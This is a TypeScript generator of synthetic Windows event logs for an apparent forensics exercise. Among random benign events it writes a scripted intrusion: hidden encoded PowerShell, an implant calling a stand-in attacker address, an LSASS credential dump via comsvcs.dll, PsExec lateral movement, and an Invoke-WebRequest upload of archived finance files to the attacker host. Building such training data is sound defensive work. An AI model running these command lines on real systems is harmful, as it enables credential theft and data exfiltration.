import type { Random } from './random.ts'
import {
  ATTACKER_ADDRESS,
  CASE_DAYS,
  caseMinuteToMs,
  HOSTS,
  INTRUSION,
  LURE_FILE,
  USERS,
  VICTIM,
  VICTIM_HOST,
} from './story.ts'

interface WindowsEvent {
  readonly minute: number
  readonly eventId: number
  readonly channel: string
  readonly computer: string
  readonly user: string
  readonly process: string
  readonly commandLine: string
  readonly address: string
  readonly message: string
}

const HEADER = 'TimeCreated,EventID,Channel,Computer,User,NewProcessName,CommandLine,SourceAddress,Message'
const PROGRAMS = [
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', 'OUTLOOK.EXE'],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', 'EXCEL.EXE /dde'],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'chrome.exe --type=renderer'],
  ['C:\\Windows\\System32\\svchost.exe', 'svchost.exe -k netsvcs -p'],
  ['C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe'],
  ['C:\\Windows\\System32\\backgroundTaskHost.exe', 'backgroundTaskHost.exe -ServerName:App'],
  ['C:\\Windows\\explorer.exe', 'explorer.exe'],
] as const

/**
 * Windows events as a collector exports them to CSV: log-ons, processes, services, and among them what the intruder did.
 * Some rows are broken on purpose: no time, a time that is none, too few cells.
 */
export function writeWindowsEvents(random: Random, rowCount: number): string {
  const events = [...makeDailyLife(random, rowCount), ...makeIntrusion()].sort((a, b) => a.minute - b.minute)
  const lines = [HEADER]
  for (const event of events) lines.push(formatRow(event))
  lines.splice(1200, 0, ',4624,Security,WS-HR-01,a.larsen,,,,Row without a time')
  lines.splice(
    2400,
    0,
    'yesterday at noon,4688,Security,WS-HR-01,a.larsen,,,,Row with a time nobody can read',
  )
  lines.splice(3600, 0, '2026-03-10T08:15:00Z,4688')
  lines.splice(5000, 0, '2026-13-45T99:00:00Z,7036,System,DC01,SYSTEM,,,,Row with an impossible date')
  return `${lines.join('\r\n')}\r\n`
}

function makeDailyLife(random: Random, rowCount: number): WindowsEvent[] {
  const events: WindowsEvent[] = []
  for (let row = 0; row < rowCount; row += 1) {
    const user = random.pick(USERS)
    const computer = random.pick(HOSTS)
    const minute = pickWorkingMinute(random)
    const [image, commandLine] = random.pick(PROGRAMS)
    const address = `10.20.${random.between(1, 4)}.${random.between(10, 250)}`
    const kind = random.next()
    const base = { minute, computer, user }
    if (kind < 0.35)
      events.push({
        ...base,
        eventId: 4624,
        channel: 'Security',
        process: '',
        commandLine: '',
        address,
        message: `An account was successfully logged on. Account Name: ${user} Logon Type: ${random.pick([2, 3, 7, 10])} Source Network Address: ${address}`,
      })
    else if (kind < 0.4)
      events.push({
        ...base,
        eventId: 4625,
        channel: 'Security',
        process: '',
        commandLine: '',
        address,
        message: `An account failed to log on. Account Name: ${user} Failure Reason: Unknown user name or bad password. Source Network Address: ${address}`,
      })
    else if (kind < 0.85)
      events.push({
        ...base,
        eventId: 4688,
        channel: 'Security',
        process: image,
        commandLine,
        address: '',
        message: `A new process has been created. Creator: ${user} New Process Name: ${image} Command Line: ${commandLine}`,
      })
    else
      events.push({
        ...base,
        eventId: 7036,
        channel: 'System',
        process: '',
        commandLine: '',
        address: '',
        message: `The ${random.pick(['Windows Update', 'Background Intelligent Transfer Service', 'Print Spooler', 'Windows Search'])} service entered the ${random.pick(['running', 'stopped'])} state.`,
      })
  }
  return events
}

function makeIntrusion(): WindowsEvent[] {
  const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
  const processEvent = (
    minute: number,
    computer: string,
    user: string,
    process: string,
    commandLine: string,
  ): WindowsEvent => ({
    minute,
    eventId: 4688,
    channel: 'Security',
    computer,
    user,
    process,
    commandLine,
    address: '',
    message: `A new process has been created. Creator: ${user} New Process Name: ${process} Command Line: ${commandLine}`,
  })
  const logon = (minute: number, computer: string, user: string, address: string): WindowsEvent => ({
    minute,
    eventId: 4624,
    channel: 'Security',
    computer,
    user,
    process: '',
    commandLine: '',
    address,
    message: `An account was successfully logged on. Account Name: ${user} Logon Type: 3 Source Network Address: ${address}`,
  })
  const victimAddress = '10.20.2.57'
  return [
    processEvent(
      INTRUSION.implantRan - 1,
      VICTIM_HOST,
      VICTIM,
      'C:\\Windows\\explorer.exe',
      `explorer.exe E:\\${LURE_FILE.replace('.iso', '.lnk')}`,
    ),
    processEvent(
      INTRUSION.implantRan,
      VICTIM_HOST,
      VICTIM,
      powershell,
      'powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
    ),
    processEvent(
      INTRUSION.implantRan + 2,
      VICTIM_HOST,
      VICTIM,
      'C:\\Users\\c.duarte\\AppData\\Roaming\\updater.exe',
      `updater.exe --server ${ATTACKER_ADDRESS}:8443`,
    ),
    processEvent(
      INTRUSION.implantRan + 6,
      VICTIM_HOST,
      VICTIM,
      'C:\\Windows\\System32\\schtasks.exe',
      'schtasks /create /tn "Adobe Update Check" /tr C:\\Users\\c.duarte\\AppData\\Roaming\\updater.exe /sc onlogon',
    ),
    processEvent(
      INTRUSION.implantRan + 21,
      VICTIM_HOST,
      VICTIM,
      'C:\\Windows\\System32\\net.exe',
      'net group "Domain Admins" /domain',
    ),
    processEvent(
      INTRUSION.webshellUsed + 3,
      'SRV-WEB',
      'svc-web',
      'C:\\Windows\\System32\\cmd.exe',
      'cmd.exe /c whoami /all',
    ),
    processEvent(
      INTRUSION.credentialsDumped,
      VICTIM_HOST,
      'SYSTEM',
      'C:\\Windows\\System32\\rundll32.exe',
      'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Windows\\Temp\\lsass.dmp full',
    ),
    logon(INTRUSION.movedToFiles, 'SRV-FILES', 'svc-backup', victimAddress),
    processEvent(
      INTRUSION.movedToFiles + 1,
      'SRV-FILES',
      'svc-backup',
      'C:\\Windows\\PSEXESVC.exe',
      'PSEXESVC.exe',
    ),
    {
      minute: INTRUSION.movedToFiles + 1,
      eventId: 7045,
      channel: 'System',
      computer: 'SRV-FILES',
      user: 'svc-backup',
      process: '',
      commandLine: '',
      address: '',
      message:
        'A service was installed in the system. Service Name: PSEXESVC Service File Name: %SystemRoot%\\PSEXESVC.exe',
    },
    processEvent(
      INTRUSION.archiveMade,
      'SRV-FILES',
      'svc-backup',
      'C:\\Users\\Public\\7za.exe',
      '7za.exe a -pWinter2026 C:\\Users\\Public\\q1.7z D:\\Finance\\*',
    ),
    processEvent(
      INTRUSION.exfiltrated,
      'SRV-FILES',
      'svc-backup',
      powershell,
      `powershell.exe Invoke-WebRequest -Uri http://${ATTACKER_ADDRESS}/u -Method Put -InFile C:\\Users\\Public\\q1.7z`,
    ),
    {
      minute: INTRUSION.logCleared,
      eventId: 1102,
      channel: 'Security',
      computer: 'SRV-FILES',
      user: 'svc-backup',
      process: '',
      commandLine: '',
      address: '',
      message: 'The audit log was cleared. Subject Account Name: svc-backup',
    },
  ]
}

function pickWorkingMinute(random: Random): number {
  return (
    random.between(0, CASE_DAYS - 1) * 1440 +
    (random.next() < 0.9 ? random.between(60, 720) : random.between(0, 1439)) +
    random.next()
  )
}

function formatRow(event: WindowsEvent): string {
  const cells = [
    new Date(caseMinuteToMs(event.minute)).toISOString(),
    String(event.eventId),
    event.channel,
    event.computer,
    event.user,
    event.process,
    event.commandLine,
    event.address,
    event.message,
  ]
  return cells.map((cell) => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell)).join(',')
}
